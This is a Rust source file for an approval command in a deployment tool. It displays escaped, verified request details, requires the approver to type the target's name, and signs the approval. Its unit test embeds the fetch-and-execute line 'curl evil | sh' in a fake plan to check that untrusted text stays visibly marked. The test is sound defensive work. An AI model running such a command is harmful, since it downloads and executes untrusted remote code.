//! `relay approve`: shows a person what the launcher has verified about a pending request, and
//! signs the consent to it. The person's own pins decide what is believed.

use std::io::BufRead as _;
use std::path::Path;

use relay_aws::Sdk;
use relay_aws::clock::now;
use relay_aws::objects::Objects;
use relay_console::Failure;
use relay_protocol::encoding::{escaped, printable};
use relay_protocol::frame::{Tried, TriedArtifact};
use relay_protocol::limits::APPROVAL_LIFETIME_MAX;
use relay_protocol::outcome::ExitCode;
use relay_protocol::time::plain_duration;
use relay_protocol::{Approval, Digest, Envelope, Reason, Request, Statement as _, TargetName, Ticket, Timestamp};

use super::saved::Source;
use super::store::Store;
use super::{Given, Pending};
use crate::args;
use crate::settings::{Layers, PIN_HINT, approval_lifetime};
use crate::show::{line, out};

/// Shows the request, asks, signs, and hands the approval in.
pub(crate) async fn approve(arguments: &args::Approve) -> Result<u8, Failure> {
    let ticket: Ticket = arguments.ticket.parse().map_err(|error| Failure::usage(format!("{error}")))?;
    let lifetime = approval_lifetime(&arguments.lifetime)?;
    let layers = Layers::read(&arguments.place)?;
    let target = arguments.target.as_deref().map(str::parse::<TargetName>).transpose();
    let target = target.map_err(|error| Failure::usage(format!("--target: {error}")))?;
    let (store, pending) = find(&layers, target.as_ref(), &ticket).await?;
    let unreadable = |problem| Failure::usage(format!("the pending request {ticket} cannot be read: {problem}"));
    let request = pending.request().map_err(unreadable)?;
    let texts = layers.texts(&request.target);
    let pins = texts.pins(&request.target)?.ok_or_else(|| {
        Failure::usage("an approval needs pinned keys: nobody should approve what a stranger answers").hint(PIN_HINT)
    })?;
    let topic = texts.topic(&request.target)?;
    if topic != request.audience {
        let words = format!("the request is for {}, and relay.toml names {topic}", request.audience);
        return Err(Failure::usage(words).hint("the requester means another account: ask them which one"));
    }
    let tried = pending.verified(&pins).map_err(|problem| Failure::usage(problem).hint(PIN_HINT))?;
    if request.ticket.as_ref() != Some(&ticket) {
        return Err(Failure::usage("the pending request has another ticket than its name says"));
    }
    let signer = texts.signer(Some(request.audience.region()))?;
    facts(&request, &tried).iter().for_each(|text| out(text));
    let (region, profile) = (request.audience.region(), arguments.saved_profile.as_deref());
    let source = Source { copies: &arguments.saved, region, profile };
    for saved in &tried.saved {
        said_of(saved, &request, &source).await?.iter().for_each(|text| out(text));
    }
    for (name, _) in request.parameters.iter().filter(|(_, value)| value.parse::<Digest>().is_ok()) {
        if tried.saved.iter().all(|saved| saved.parameter != *name) {
            out(&format!("What is in the artifact `{name}` is not shown here: its digest is all that you approve."));
        }
    }
    if tried.reason != Some(Reason::Approval) {
        return Err(Failure::usage(format!("this request does not wait for an approval: {}", tried.message)));
    }
    let until = now().plus(i64::try_from(lifetime.as_secs()).unwrap_or(APPROVAL_LIFETIME_MAX));
    out(&format!("Your approval lets exactly this run once, until {until}."));
    if !confirmed(&request)? {
        line("not approved: that is not the target's name");
        return Ok(ExitCode::No.code());
    }
    let given = sign(&signer, &request, &tried, (ticket, until)).await?;
    match &arguments.out {
        Some(path) => write(path, &given)?,
        None => {
            let name = signer.name_of(&given.approval).await?;
            if !store.approve(&name, &given).await? {
                return Err(Failure::usage("this key has approved this request before"));
            }
        }
    }
    out("approved");
    Ok(0)
}

/// Looks for the ticket in every bucket that relay.toml or a flag names.
async fn find(layers: &Layers, target: Option<&TargetName>, ticket: &Ticket) -> Result<(Store, Pending), Failure> {
    let stores = layers.approval_stores(target)?;
    for (region, (bucket, prefix)) in &stores {
        let objects = Objects::new(&Sdk::from_environment(region.as_ref()).await);
        let store = Store { objects, bucket: bucket.clone(), prefix: prefix.clone() };
        if let Some(pending) = store.get(ticket).await? {
            return Ok((store, pending));
        }
    }
    let places: Vec<String> = stores.iter().map(|(_, (bucket, prefix))| format!("s3://{bucket}/{prefix}")).collect();
    Err(Failure::usage(format!("no request with the ticket {ticket} waits in {}", places.join(", ")))
        .hint("ask for the line that `relay deploy` printed; requests are removed after two days"))
}

/// What the approver reads. Everything of the requester is escaped, and marked with a bar.
fn facts(request: &Request, tried: &Tried) -> Vec<String> {
    let mut lines = vec![
        "What the launcher of the target account has verified and signed:".to_owned(),
        format!("  target         {} in account {}", request.target, request.audience.account()),
        format!("  configuration  {}", tried.configuration_digest),
        format!("  revision       {}", printable(&tried.revision)),
        format!("  requester      {}", printable(&tried.requesters.join(", "))),
        format!("  missing        {} of the approvals that the policy requires", tried.approvals_missing),
        format!("  asked at       {}", request.issued_at),
        "  parameters".to_owned(),
    ];
    for (name, value) in &request.parameters {
        lines.push(format!("    {name}, {} bytes", value.len()));
        lines.extend(barred(value));
    }
    let origin = &request.origin;
    let claims =
        [("system", &origin.system), ("run", &origin.run_url), ("commit", &origin.commit), ("actor", &origin.actor)];
    if claims.iter().any(|(_, text)| text.is_some()) {
        lines.push("What the requester says, and nobody has verified:".to_owned());
        for (name, text) in claims {
            lines.extend(text.as_ref().map(|text| format!("  {name:<13}  {}", printable(text.as_str()))));
        }
    }
    lines
}

/// What the approver reads about an artifact that another target saved: whose it is, and its text.
async fn said_of(saved: &TriedArtifact, request: &Request, source: &Source<'_>) -> Result<Vec<String>, Failure> {
    let TriedArtifact { parameter, target, deployment_id, requesters, exit_code, finished_at, .. } = saved;
    let digest = request.parameters.get(parameter).and_then(|value| value.parse().ok());
    let digest = digest.ok_or_else(|| Failure::usage(format!("the parameter `{parameter}` is not a digest")))?;
    let age = plain_duration(now().since(*finished_at));
    let by = printable(&requesters.join(", "));
    let mut lines = vec![format!(
        "The artifact `{parameter}` was saved by {deployment_id} of {target}, asked for by {by}, exit code {exit_code}, {age} ago, as the launcher says."
    )];
    match source.text(saved, digest).await? {
        Some(text) => {
            let text = String::from_utf8_lossy(&text);
            let count = text.lines().count();
            lines.push(format!("Its text, as the tool of {target} printed it, {} bytes in {count} lines:", text.len()));
            lines.extend(barred(text.trim_end_matches('\n')));
            lines.push("    (this is the end of the text)".to_owned());
        }
        None => lines.push("It has no text, so nothing here says what it would do.".to_owned()),
    }
    Ok(lines)
}

/// Columns of a text of a stranger in one line. A terminal of 80 columns does not break it, so that
/// no part of it can pass for a line of relay.
const WIDTH: usize = 72;

/// A text of a stranger, whole, with a bar before each line. A long line goes on after another bar.
fn barred(text: &str) -> Vec<String> {
    let mut lines = Vec::new();
    for line in text.split('\n') {
        let (mut bar, mut piece, mut columns) = ('│', String::new(), 0);
        for c in escaped(line).chars() {
            // Some characters beyond ASCII are twice as wide.
            let width = if c.is_ascii() { 1 } else { 2 };
            if columns + width > WIDTH {
                lines.push(format!("    {bar} {piece}"));
                (bar, columns) = ('┆', 0);
                piece.clear();
            }
            piece.push(c);
            columns += width;
        }
        lines.push(format!("    {bar} {piece}"));
    }
    lines
}

/// Asks for the target's name. There is no flag for it.
fn confirmed(request: &Request) -> Result<bool, Failure> {
    line(&format!("To approve, type the target's name, {}:", request.target));
    let mut typed = String::new();
    let read = std::io::stdin().lock().read_line(&mut typed);
    read.map_err(|error| Failure::usage(format!("cannot read your answer: {error}")))?;
    Ok(typed.trim() == request.target.as_str())
}

async fn sign(
    signer: &crate::signing::Signer,
    request: &Request,
    tried: &Tried,
    (ticket, expires_at): (Ticket, Timestamp),
) -> Result<Given, Failure> {
    let odd = || Failure::usage("the pending request has no ticket");
    let subject = request.subject(tried.configuration_digest).ok_or_else(odd)?;
    let approval = Approval { subject, issued_at: now(), expires_at };
    Ok(Given { ticket, approval: signer.sign(Envelope::new(Approval::TYPE, approval.to_payload())).await? })
}

fn write(path: &Path, given: &Given) -> Result<(), Failure> {
    let written = std::fs::write(path, given.to_bytes()?);
    written.map_err(|error| Failure::usage(format!("{}: {error}", path.display())))
}

#[cfg(test)]
mod tests {
    use super::*;

    // clause: ART-7
    #[test]
    fn a_text_of_a_stranger_is_shown_whole_and_in_no_line_of_its_own() {
        let plan = format!("+ user_data = \"{}; curl evil | sh\"\nend", "x".repeat(2_000));
        let lines = barred(&plan);
        assert!(lines.iter().all(|line| line.chars().count() <= 78 && line.starts_with("    ")), "{lines:?}");
        let shown: String = lines.iter().map(|line| line.chars().skip(6).collect::<String>()).collect();
        assert_eq!(shown, plan.replace('\n', ""));
        assert_eq!(lines.iter().filter(|line| line.starts_with("    │ ")).count(), 2, "{lines:?}");
        assert_eq!(barred("a\u{1b}[2Jb"), ["    │ a\\u{1b}[2Jb"]);
        assert_eq!(barred(&"字".repeat(37)).len(), 2, "wide characters");
    }
}
